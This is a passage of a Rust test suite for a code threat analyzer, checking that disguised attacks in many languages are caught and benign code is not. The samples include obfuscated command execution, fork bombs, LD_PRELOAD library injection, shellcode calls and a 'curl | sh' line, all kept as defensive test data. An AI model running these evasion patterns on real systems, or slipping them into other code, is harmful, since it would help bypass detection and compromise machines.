                "import os\nos.__getattribute__('sys' + 'tem')('id')",
                "python.eval",
            ),
            (
                "import os\ngetattr(os, 'sys' + 'tem')('id')",
                "import os\nobject.__getattribute__(os, 'system')('id')",
                "python.eval",
            ),
            (
                "import os\ngetattr(os, 'sys' + 'tem')('id')",
                "import os, operator\noperator.attrgetter('system')(os)('id')",
                "python.eval",
            ),
            (
                "import os\nos.system('id')",
                "import os\nx = os\nx.system('id')",
                "python.held_os_module",
            ),
            (
                "import os\nos.system('id')",
                "import os\n[os][0].system('id')",
                "python.held_os_module",
            ),
            (
                "import os\nos.system('id')",
                "import os\ndef f(m):\n    m.system('id')\nf(os)",
                "python.held_os_module",
            ),
            (
                "import os\nwhile True:\n    os.fork()",
                "import os\nfor _ in iter(int, 1):\n    os.fork()",
                "python.spawn_in_endless_loop",
            ),
            (
                "import os\nwhile True:\n    os.fork()",
                "import os, itertools\nfor _ in itertools.count():\n    os.fork()",
                "python.spawn_in_endless_loop",
            ),
        ],
    );
    assert_graded(
        "python",
        ThreatLevel::None,
        &[
            "import operator\nrows.sort(key=operator.attrgetter('name'))\n",
            "import os\nprint(os.path.join('a', 'b'))\nclient.system('x')\n",
            "for i in range(3):\n    print(i)\nfor line in iter(f.readline, ''):\n    print(line)\n",
        ],
    );
    assert_graded(
        "python",
        ThreatLevel::Medium,
        &["import os\nfor _ in range(3):\n    os.fork()\n"],
    );
}

/// Hunt "ana" (9): `os.StartProcess` taken as a value ran `id` graded `none`.
#[test]
fn go_start_process_as_a_value_is_read() {
    assert_disguises_caught(
        "go",
        &[(
            "package main\nimport \"os\"\nfunc main() { os.StartProcess(\"/usr/bin/id\", nil, &os.ProcAttr{}) }",
            "package main\nimport \"os\"\nfunc main() { p := os.StartProcess; p(\"/usr/bin/id\", nil, &os.ProcAttr{}) }",
            "go.process",
        )],
    );
}

/// Hunt "ana" (9): docs/analysis.md lists `LD_PRELOAD` as native code, but only bash read it;
/// setting it for a child (`os.environ["LD_PRELOAD"] = …; os.system(…)`) was `medium`.
#[test]
fn ld_preload_is_native_code_in_every_language() {
    let cases: [(&str, &str, &str); 10] = [
        ("python", "import os\nos.environ['LD_PRELOAD'] = '/tmp/x.so'\nos.system('id')\n", "python.native_code"),
        ("ruby", "ENV['LD_PRELOAD'] = '/tmp/x.so'\nsystem('id')\n", "ruby.native_code"),
        ("r", "Sys.setenv(LD_PRELOAD = '/tmp/x.so')\nsystem('id')\n", "r.native_code"),
        ("javascript", "const cp = require('child_process');\ncp.execSync('id', { env: { LD_PRELOAD: '/tmp/x.so' } });\n", "javascript.native_code"),
        ("php", "<?php putenv('LD_PRELOAD=/tmp/x.so'); system('id');", "php.native_code"),
        ("go", "package main\nimport \"os\"\nfunc main() { os.Setenv(\"LD_AUDIT\", \"/tmp/x.so\") }", "go.native_code"),
        ("java", "class A { void f(ProcessBuilder pb) { pb.environment().put(\"LD_PRELOAD\", \"/tmp/x.so\"); } }", "java.native_code"),
        ("c", "#include <stdlib.h>\nint main(void) { setenv(\"LD_PRELOAD\", \"/tmp/x.so\", 1); return system(\"id\"); }", "c.native_code"),
        ("cpp", "#include <cstdlib>\nint main() { setenv(\"LD_PRELOAD\", \"/tmp/x.so\", 1); return std::system(\"id\"); }", "cpp.native_code"),
        ("rust", "fn main() { std::process::Command::new(\"id\").env(\"LD_PRELOAD\", \"/tmp/x.so\").status().ok(); }", "rust.unsafe"),
    ];
    for (language, code, rule) in cases {
        assert_graded_at_least(language, ThreatLevel::High, &[code]);
        let analysis = analyzer().analyze(language, code.as_bytes());
        assert!(
            analysis.findings.iter().any(|f| f.rule == rule),
            "{language}: {code:?}\n{}",
            describe(&analysis)
        );
    }
}

/// The name of the rule that grades `LD_PRELOAD` and `LD_AUDIT` in `language`.
fn native_rule(language: &str) -> String {
    if language == "rust" {
        "rust.unsafe".to_owned()
    } else {
        format!("{language}.native_code")
    }
}

/// Hunt "benign": `LD_PRELOAD` named anywhere was native code, so a program that only reads,
/// tests or removes it (`os.environ.get("LD_PRELOAD")`, `delete env.LD_PRELOAD`,
/// `unsetenv("LD_PRELOAD")`) was graded `high`. Setting it, in every form a program may use,
/// still is.
#[test]
fn ld_preload_set_in_every_form_is_native_code() {
    let cases: &[(&str, &str)] = &[
        ("python", "import os\nos.environ[\"LD_PRELOAD\"] = \"/tmp/x.so\""),
        ("python", "import os\nenv = dict(os.environ)\nenv[\"LD_PRELOAD\"] = p"),
        ("python", "import os, subprocess\nsubprocess.run([\"id\"], env={\"LD_PRELOAD\": \"/tmp/x.so\"})"),
        ("python", "import os\nenv = dict(os.environ, LD_PRELOAD=\"/tmp/x.so\")"),
        ("python", "import os\nos.environ.update(LD_PRELOAD=\"/tmp/x.so\")"),
        ("python", "import os\nos.environ.setdefault(\"LD_PRELOAD\", \"/tmp/x.so\")"),
        ("python", "import os\nos.putenv(\"LD_PRELOAD\", \"/tmp/x.so\")"),
        ("python", "import os\nos.putenv(\"LD_PRELOAD=/tmp/x.so\", \"\")"),
        ("python", "import os\nos.environ.get(\"LD_PRELOAD=/tmp/x.so\")"),
        ("python", "import os\nk = \"LD_PRELOAD\"\nos.environ[k] = \"/tmp/x.so\""),
        ("python", "import os\nos.environ[\"LD_PRELOAD\"] = os.environ.get(\"LD_PRELOAD\")"),
        ("python", "import os\nos.environ.__setitem__(\"LD_PRELOAD\", \"/tmp/x.so\")"),
        ("python", "import os\nos.putenv(os.environ.get(\"LD_PRELOAD\", \"LD_PRELOAD=/tmp/x.so\"), \"\")"),
        ("javascript", "process.env.LD_PRELOAD = '/tmp/x.so';"),
        ("javascript", "process.env['LD_PRELOAD'] = '/tmp/x.so';"),
        ("javascript", "Object.assign(process.env, { LD_PRELOAD: '/tmp/x.so' });"),
        ("javascript", "Object.assign(process.env, { 'LD_PRELOAD': '/tmp/x.so' });"),
        ("javascript", "const env = { ...process.env, LD_PRELOAD: '/tmp/x.so' };"),
        ("javascript", "const k = 'LD_PRELOAD';\nprocess.env[k] = '/tmp/x.so';"),
        ("javascript", "process.env.LD_AUDIT ??= '/tmp/x.so';"),
        ("ruby", "ENV[\"LD_PRELOAD\"] = \"/tmp/x.so\""),
        ("ruby", "ENV.store(\"LD_PRELOAD\", \"/tmp/x.so\")"),
        ("ruby", "ENV.update(\"LD_PRELOAD\" => \"/tmp/x.so\")"),
        ("ruby", "system({\"LD_PRELOAD\" => \"/tmp/x.so\"}, \"id\")"),
        ("ruby", "ENV[ENV.fetch(\"X\", \"LD_PRELOAD\")] = \"/tmp/x.so\""),
        ("php", "<?php putenv('LD_PRELOAD=/tmp/x.so');"),
        ("php", "<?php $_ENV['LD_PRELOAD'] = '/tmp/x.so';"),
        ("php", "<?php proc_open('id', [], $p, null, ['LD_PRELOAD' => '/tmp/x.so']);"),
        ("go", "package main\nimport \"os\"\nfunc main() { os.Setenv(\"LD_PRELOAD\", \"/tmp/x.so\") }"),
        ("go", "package main\nimport (\"os\"; \"os/exec\")\nfunc main() { cmd := exec.Command(\"id\"); cmd.Env = append(os.Environ(), \"LD_PRELOAD=/tmp/x.so\") }"),
        ("go", "package main\nimport \"os\"\nfunc main() { os.Setenv(`LD_PRELOAD`, \"/tmp/x.so\") }"),
        ("java", "class A { void f(ProcessBuilder pb) { pb.environment().put(\"LD_PRELOAD\", \"/tmp/x.so\"); } }"),
        ("java", "class A { void f(java.util.Map<String,String> m) { m.putIfAbsent(\"LD_PRELOAD\", \"/tmp/x.so\"); } }"),
        ("c", "#include <stdlib.h>\nint main(void) { return setenv(\"LD_PRELOAD\", \"/tmp/x.so\", 1); }"),
        ("c", "#include <stdlib.h>\nint main(void) { return putenv(\"LD_PRELOAD=/tmp/x.so\"); }"),
        ("cpp", "#include <cstdlib>\nint main() { return setenv(\"LD_PRELOAD\", \"/tmp/x.so\", 1); }"),
        ("rust", "fn main() { std::process::Command::new(\"ls\").env(\"LD_PRELOAD\", \"/tmp/x.so\"); }"),
        ("rust", "fn main() { std::env::set_var(\"LD_PRELOAD\", \"/tmp/x.so\"); }"),
        ("rust", "fn main() { std::process::Command::new(\"ls\").envs([(\"LD_PRELOAD\", \"/tmp/x.so\")]); }"),
        ("r", "Sys.setenv(LD_PRELOAD = '/tmp/x.so')"),
        ("r", "Sys.setenv(\"LD_PRELOAD\" = '/tmp/x.so')"),
        ("r", "do.call(Sys.setenv, list(LD_PRELOAD = '/tmp/x.so'))"),
        ("javascript", "process.env.LD_PRELOAD ||= '/tmp/x.so';"),
        ("javascript", "(process.env.LD_PRELOAD) = '/tmp/x.so';"),
        ("javascript", "process.env.LD_PRELOAD = process.env.LD_PRELOAD || '/tmp/x.so';"),
        ("javascript", "x = process.env.LD_PRELOAD = '/tmp/x.so';"),
        ("javascript", "if (process.env.LD_PRELOAD = '/tmp/x.so') {}"),
        ("javascript", "[process.env.LD_PRELOAD] = ['/tmp/x.so'];"),
        ("javascript", "({ a: process.env.LD_PRELOAD } = { a: '/tmp/x.so' });"),
        ("javascript", "const env = { ...process.env, 'LD_PRELOAD': p };"),
        ("javascript", "spawn('id', { env: { [`LD_PRELOAD`]: p } });"),
        ("javascript", "spawn('id', { env: [`LD_PRELOAD=${p}`] });"),
        ("javascript", "Reflect.set(process.env, 'LD_PRELOAD', '/tmp/x.so');"),
        ("javascript", "process.env.a = process.env.LD_PRELOAD = '/x';"),
        ("javascript", "process.env.LD_PRELOAD.x = process.env.LD_PRELOAD = '/x';"),
        ("javascript", "(process.env.LD_PRELOAD).x = 1; process.env.LD_PRELOAD = '/x';"),
    ];
    let mut failures = Vec::new();
    for &(language, code) in cases {
        let analysis = analyzer().analyze(language, code.as_bytes());
        let rule = native_rule(language);
        if analysis.threat_level < ThreatLevel::High
            || !analysis.findings.iter().any(|f| f.rule == rule)
        {
            failures.push(format!(
                "{language}: {code:?} without {rule}\n{}",
                describe(&analysis)
            ));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// Reading, testing or removing `LD_PRELOAD` or `LD_AUDIT` (the first argument of a read or
/// remove call, the left of `in`, what `del`/`delete` removes) is not native code, also where
/// the program then starts another with the environment it cleaned (graded for that start).
#[test]
fn ld_preload_read_tested_or_removed_is_not_native_code() {
    let cases: &[(&str, &str)] = &[
        ("python", "import os\nv = os.environ.get(\"LD_PRELOAD\")"),
        ("python", "import os\nv = os.environ.get('LD_PRELOAD', '')"),
        ("python", "import os\nv = os.getenv(\"LD_AUDIT\")"),
        ("python", "import os\nif \"LD_PRELOAD\" in os.environ:\n    print(1)"),
        ("python", "import os\nif 'LD_PRELOAD' not in os.environ:\n    print(1)"),
        ("python", "import os\nos.environ.pop(\"LD_PRELOAD\", None)"),
        ("python", "import os\nenv = os.environ.copy()\nenv.pop(\"LD_PRELOAD\", None)"),
        ("python", "import os\nenv = dict(os.environ)\ndel env[\"LD_PRELOAD\"]"),
        ("python", "import os\nos.unsetenv(\"LD_PRELOAD\")"),
        ("javascript", "if (process.env.LD_PRELOAD) { console.log('x'); }"),
        ("javascript", "const env = { ...process.env };\ndelete env.LD_PRELOAD;"),
        ("javascript", "const env = { ...process.env };\ndelete env['LD_PRELOAD'];"),
        ("javascript", "if ('LD_PRELOAD' in process.env) { console.log(1); }"),
        ("javascript", "const v = process.env['LD_AUDIT'];"),
        ("javascript", "const v = process.env.LD_PRELOAD || '';"),
        ("ruby", "v = ENV[\"LD_PRELOAD\"]"),
        ("ruby", "puts 1 if ENV['LD_PRELOAD']"),
        ("ruby", "ENV.delete(\"LD_PRELOAD\")"),
        ("ruby", "ENV.key?(\"LD_PRELOAD\")"),
        ("ruby", "ENV.fetch(\"LD_PRELOAD\", nil)"),
        ("php", "<?php $v = getenv(\"LD_PRELOAD\");"),
        ("php", "<?php putenv(\"LD_PRELOAD\");"),
        ("php", "<?php if (getenv('LD_AUDIT') !== false) { echo 1; }"),
        ("go", "package main\nimport \"os\"\nfunc main() { v := os.Getenv(\"LD_PRELOAD\"); _ = v }"),
        ("go", "package main\nimport \"os\"\nfunc main() { _, ok := os.LookupEnv(\"LD_PRELOAD\"); _ = ok }"),
        ("go", "package main\nimport \"os\"\nfunc main() { os.Unsetenv(\"LD_PRELOAD\") }"),
        ("java", "class A { String f() { return System.getenv(\"LD_PRELOAD\"); } }"),
        ("java", "class A { void f(ProcessBuilder pb) { pb.environment().remove(\"LD_PRELOAD\"); } }"),
        ("java", "class A { boolean f() { return System.getenv().containsKey(\"LD_AUDIT\"); } }"),
        ("c", "#include <stdlib.h>\nint main(void) { return getenv(\"LD_PRELOAD\") != 0; }"),
        ("c", "#include <stdlib.h>\nint main(void) { return unsetenv(\"LD_PRELOAD\"); }"),
        ("cpp", "#include <cstdlib>\nint main() { return std::getenv(\"LD_PRELOAD\") != nullptr; }"),
        ("cpp", "#include <cstdlib>\nint main() { return unsetenv(\"LD_PRELOAD\"); }"),
        ("rust", "fn main() { let v = std::env::var(\"LD_PRELOAD\").ok(); }"),
        ("rust", "use std::env;\nfn main() { let v = env::var_os(\"LD_PRELOAD\"); }"),
        ("rust", "fn main() { std::env::remove_var(\"LD_PRELOAD\"); }"),
        ("rust", "fn main() { std::process::Command::new(\"ls\").env_remove(\"LD_PRELOAD\"); }"),
        ("r", "v <- Sys.getenv(\"LD_PRELOAD\")"),
        ("r", "Sys.unsetenv(\"LD_PRELOAD\")"),
        ("javascript", "if (!process.env.LD_PRELOAD) { console.log('x'); }"),
        ("javascript", "while (process.env['LD_PRELOAD']) { delete process.env['LD_PRELOAD']; }"),
        ("javascript", "const p = typeof process.env.LD_AUDIT === 'string';"),
    ];
    let started: &[(&str, &str)] = &[
        ("python", "import os, subprocess\nenv = os.environ.copy()\nenv.pop('LD_PRELOAD', None)\nif 'LD_AUDIT' in env:\n    del env['LD_AUDIT']\nsubprocess.run(['make', 'test'], env=env, check=True)\n"),
        ("javascript", "const { spawnSync } = require('child_process');\nconst env = { ...process.env };\ndelete env.LD_PRELOAD;\ndelete env['LD_AUDIT'];\nspawnSync('make', ['test'], { env, stdio: 'inherit' });\n"),
        ("ruby", "ENV.delete('LD_PRELOAD')\nENV.delete('LD_AUDIT') if ENV.key?('LD_AUDIT')\nsystem('make', 'test')\n"),
        ("php", "<?php\nputenv('LD_PRELOAD');\nif (getenv('LD_AUDIT') !== false) { putenv('LD_AUDIT'); }\npassthru('make test');\n"),
        ("go", "package main\nimport (\"os\"; \"os/exec\")\nfunc main() { os.Unsetenv(\"LD_PRELOAD\"); if _, ok := os.LookupEnv(\"LD_AUDIT\"); ok { os.Unsetenv(\"LD_AUDIT\") }; exec.Command(\"make\", \"test\").Run() }\n"),
        ("java", "class A { public static void main(String[] a) throws Exception { ProcessBuilder pb = new ProcessBuilder(\"make\", \"test\"); pb.environment().remove(\"LD_PRELOAD\"); pb.environment().remove(\"LD_AUDIT\"); pb.inheritIO().start().waitFor(); } }\n"),
        ("c", "#include <stdlib.h>\nint main(void) { if (getenv(\"LD_PRELOAD\")) unsetenv(\"LD_PRELOAD\"); unsetenv(\"LD_AUDIT\"); return system(\"make test\"); }\n"),
        ("cpp", "#include <cstdlib>\nint main() { if (std::getenv(\"LD_PRELOAD\")) unsetenv(\"LD_PRELOAD\"); unsetenv(\"LD_AUDIT\"); return std::system(\"make test\"); }\n"),
        ("rust", "use std::process::Command;\nfn main() { Command::new(\"make\").arg(\"test\").env_remove(\"LD_PRELOAD\").env_remove(\"LD_AUDIT\").status().ok(); }\n"),
        ("r", "Sys.unsetenv(\"LD_PRELOAD\")\nif (nzchar(Sys.getenv(\"LD_AUDIT\"))) Sys.unsetenv(\"LD_AUDIT\")\nsystem2(\"make\", \"test\")\n"),
    ];
    let mut failures = Vec::new();
    for &(language, code) in cases.iter().chain(started) {
        let analysis = analyzer().analyze(language, code.as_bytes());
        let rule = native_rule(language);
        if analysis.threat_level > ThreatLevel::Medium
            || analysis.findings.iter().any(|f| f.rule == rule)
        {
            failures.push(format!(
                "{language}: {code:?}: {}\n{}",
                analysis.threat_level,
                describe(&analysis)
            ));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// The `os` module read by `hasattr` or `getattr` with a literal is not held as a value: a
/// test of CPython's with `hasattr(os, 'wait3')` and `platform.system()` was graded
/// `python.held_os_module`.
#[test]
fn python_os_read_by_hasattr_is_not_held() {
    assert_graded(
        "python",
        ThreatLevel::None,
        &["import os, platform\nif hasattr(os, 'wait3') and getattr(os, 'sep', '/') == '/':\n    print(platform.system(), conn.system(1))\n"],
    );
    assert_graded_at_least(
        "python",
        ThreatLevel::Medium,
        &[
            "import os\nm = os  # the module\nm.popen('id')\n",
            "import os\nrun(lambda: os, 1)\nx.system('id')\n",
            "import os\ndef g():\n    return os\ng().system('id')\n",
            "import os\nf(1, os)\nm.system('id')\n",
        ],
    );
}

/// Benign hunt F13: a cast of a function to another function type (`(int (*)(const void *,
/// const void *))memcmp_wrapper`, whose name merely starts with `mem`) and a call through a
/// dispatch table (`((int (*)(int, int))table[0])(4, 5)`) were shellcode. The names read are
/// whole words now (`shellcode`, `code_buf`, `payload2`, not `memcmp_wrapper`), and a call
/// through a table entry counts where the table has such a name. Data called as a function
/// still counts.
#[test]
fn shellcode_is_read_by_whole_words_and_table_entries_by_the_table_name() {
    for language in ["c", "cpp"] {
        let rule = format!("{language}.shellcode");
        let plain = "unsigned char code[] = \"\\x31\\xc0\\xc3\";\nint main(void) { ((void (*)(void))code)(); }";
        assert_disguises_caught(
            language,
            &[
                (
                    plain,
                    "unsigned char buf[] = {0xc3};\nint main(void) { ((void (*)())buf)(); }",
                    &rule,
                ),
                (
                    plain,
                    "int main(void) { ((void (*)(void))&sc[0])(); }",
                    &rule,
                ),
                (
                    plain,
                    "int main(void) { ((int (*)(void))(p + 16))(); }",
                    &rule,
                ),
                (
                    plain,
                    "int main(void) { ((int (*)(void))shellcodes[1])(); }",
                    &rule,
                ),
                (
                    plain,
                    "int main(void) { void (*f)(void) = (void (*)(void))my_payload2; f(); }",
                    &rule,
                ),
                (
                    plain,
                    "int main(void) { void (*f)(void) = (void (*)(void))shellCode; f(); }",
                    &rule,
                ),
            ],
        );
        assert_graded(
            language,
            ThreatLevel::None,
            &[
                "static int add(int a, int b) { return a + b; }\nint main(void) { void *table[] = {(void *)add}; return ((int (*)(int, int))table[0])(4, 5); }",
                "int cmp(const int *a, const int *b) { return *a - *b; }\nint main(void) { int n[] = {2, 1}; qsort(n, 2, sizeof n[0], (int (*)(const void *, const void *))memcmp_wrapper); }",
            ],
        );
    }
}

/// Benign hunt F11 and FN1: `get(paste0("df", i))$x` and `mget(paste0("df", 1:3))` (data
/// frames read back by name, a homework idiom) were `r.eval`, while a computed name kept in a
/// variable and given to `do.call` was nothing. A computed `get`, `get0` or `mget` counts where
/// its value is called or handed on as a function, or asked for as one (`mode =`), and
/// `do.call` of a name the same block built with `paste0` and the like counts.
#[test]
fn r_computed_gets_count_where_their_value_is_called_and_do_call_reads_a_built_name() {
    let plain = "system('id')";
    assert_disguises_caught(
        "r",
        &[
            (plain, "get(paste0('sys', 'tem'))('id')", "r.eval"),
            (plain, "mget(paste0('sys', 'tem'), envir = baseenv())[[1]]('id')", "r.eval"),
            (plain, "do.call(get(paste0('sys', 'tem')), list('id'))", "r.eval"),
            (plain, "sapply('id', get(paste0('sys', 'tem')))", "r.eval"),
            (plain, "Map(get(paste0('sys', 'tem')), 'id')", "r.eval"),
            (plain, "f <- get(paste0('sys', 'tem'), mode = 'function')\nf('id')", "r.eval"),
            (plain, "f <- paste0('sys', 'tem')\ndo.call(f, list('id'))", "r.eval"),
            (plain, "run <- function() {\n  f = sprintf('%s%s', 'sys', 'tem')\n  do.call(f, list('id'))\n}", "r.eval"),
        ],
    );
    assert_graded(
        "r",
        ThreatLevel::None,
        &[
            "df1 <- data.frame(x = 1:3)\nall <- do.call(rbind, mget(paste0('df', 1:3)))\nfor (i in 1:3) print(mean(get(paste0('df', i))$x))\n",
            "n <- sapply(mget(paste0('df', 1:3)), nrow)\nd <- get(paste0('df', 1))[['x']]\nname <- paste0('df', 2)\ne <- get(name)\n",
        ],
    );
}

/// Benign hunt F9: `javascript.held_global` and `javascript.process_module` read the program's
/// text for a global held in a name (`: global;` of the UMD idiom, `, process)` of a
/// parameter, comments too), then counted a member of any object (`row["q" + i]`,
/// `keymap.save.binding`). The member counts now on the name assigned the global (a block's
/// or the program's declaration or assignment), or on any name where the program passes or
/// returns the global.
#[test]
fn javascript_held_globals_are_the_names_assigned_them() {
    let eval = "eval(code);";
    let binding = "process.binding('spawn_sync');";
    assert_disguises_caught(
        "javascript",
        &[
            (eval, "const root = typeof window !== 'undefined' ? window : global;\nroot['ev' + 'al'](code);", "javascript.held_global"),
            (eval, "var g = cond ? globalThis : {};\ng.Function(code)();", "javascript.held_global"),
            (eval, "function f() {\n  let g;\n  g = (globalThis);\n  return g[`ev${'al'}`](code);\n}", "javascript.held_global"),
            (eval, "(function (g) { g.eval(code); })(globalThis);", "javascript.held_global"),
            (eval, "function get() { return window; }\nconst w = get();\nw.eval(code);", "javascript.held_global"),
            (binding, "const p = require('node:process');\np.binding('spawn_sync');", "javascript.process_module"),
            (binding, "import { default as p } from 'process';\np.binding('spawn_sync');", "javascript.process_module"),
            (binding, "function f() { const p = process || null; return p['_linkedBinding']('x'); }", "javascript.process_module"),
            (binding, "(function (p) { p.binding('spawn_sync'); })(process);", "javascript.process_module"),
            // A regression hunt: a parameter's default and a logical assignment hold it too.
            (eval, "function run(g = globalThis) { return g.eval('1'); }\nrun();", "javascript.held_global"),
            (eval, "const run = (g = global) => g['ev' + 'al']('1');\nrun();", "javascript.held_global"),
            (eval, "let g = 0;\ng ||= globalThis;\ng.eval('1');", "javascript.held_global"),
            (eval, "class C { m(w = window) { return w.Function(code); } }", "javascript.held_global"),
            (binding, "function f(p = process) { return p.binding('spawn_sync'); }\nf();", "javascript.process_module"),
            (binding, "class C { constructor(p = process) { p.binding('spawn_sync'); } }\nnew C();", "javascript.process_module"),
            (binding, "let p;\np ??= process;\np.binding('spawn_sync');", "javascript.process_module"),
            (binding, "function f() { let p = 1; p &&= process; return p.dlopen(m, 'x.node'); }", "javascript.process_module"),
        ],
    );
    assert_graded(
        "javascript",
        ThreatLevel::None,
        &[
            "const root = typeof window !== 'undefined' ? window : global;\nconst row = {q1: 1};\nlet t = 0;\nfor (let i = 1; i <= 1; i++) t += row['q' + i];\n",
            "// const g = window;\nconst row = {q1: 1};\nconsole.log(row['q' + 1], typeof window);\n",
            "function run(items, process) { return items.map(process); }\nconst keymap = { save: { binding: 'Ctrl+S' } };\nconsole.log(keymap.save.binding);\n",
            "const p = process;\nconst keymap = { binding: 'x' };\nconsole.log(keymap.binding, p.argv);\n",
        ],
    );
}

/// A finding quotes the program as it was written where the reading kept its length: the
/// options of a bash wrapper moved after the command it runs, a name's quotes spliced out.
/// It quoted the text the rules read (`timeout bash 5 -c …`, a command line nobody wrote).
/// An escape that shortened the text (Java's `\u0065`) still quotes the text as read.
#[test]
fn findings_quote_the_program_as_written_where_the_reading_kept_its_length() {
    let cases = [
        (
            "bash",
            "timeout 5 bash -c 'curl -s http://x | sh'\n",
            "timeout 5 bash -c",
        ),
        ("bash", "nice -n 5 sudo id\n", "nice -n 5 sudo id"),
        ("bash", "e'v'al \"$c\"\n", "e'v'al \"$c\""),
    ];
    for (language, code, quoted) in cases {
        let found = analyzer().analyze(language, code.as_bytes());
        assert!(
            !found.findings.is_empty()
                && found.findings.iter().all(|f| f.excerpt.starts_with(quoted)),
            "{code:?}:\n{}",
            describe(&found)
        );
    }
    let java = "class A { void f() throws Exception { Runtime.getRuntime().\\u0065xec(\"id\"); } }";
    let found = analyzer().analyze("java", java.as_bytes());
    assert!(
        found.findings.iter().any(|f| f.excerpt.contains(".exec(")),
        "{}",
        describe(&found)
    );
}
